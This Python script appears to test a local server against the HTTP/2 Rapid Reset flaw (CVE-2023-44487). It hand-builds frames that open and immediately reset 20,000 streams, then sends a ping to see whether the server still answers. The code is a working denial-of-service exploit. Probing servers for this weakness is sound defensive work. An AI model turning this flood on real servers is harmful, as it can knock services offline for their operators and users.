"""Opens streams of HTTP/2 and resets each at once (CVE-2023-44487). Prints how many bytes the server let it send, and
whether it was still willing to answer after them. Called with a port.
"""

import socket
import ssl
import sys

STREAMS = 20000
context = ssl._create_unverified_context()
context.set_alpn_protocols(["h2"])
plain = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5)
stream = context.wrap_socket(plain, server_hostname="shop.example.com")
stream.settimeout(10)


def frame(kind, flags, number, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + number.to_bytes(4, "big") + payload


name = b"shop.example.com"
head = b"\x82\x87\x84\x01" + bytes([len(name)]) + name
willing = False
try:
    stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    pairs = [frame(1, 5, 2 * n + 1, head) + frame(3, 0, 2 * n + 1, b"\0\0\0\x08") for n in range(STREAMS)]
    for first in range(0, STREAMS, 500):
        stream.sendall(b"".join(pairs[first:first + 500]))
    stream.sendall(frame(6, 0, 0, b"are you?"))
    data = b""
    while not willing:
        received = stream.recv(65536)
        if not received:
            break
        data = (data + received)[-200000:]
        willing = frame(6, 1, 0, b"are you?") in data
except OSError:
    pass
print("willing" if willing else "cut off")
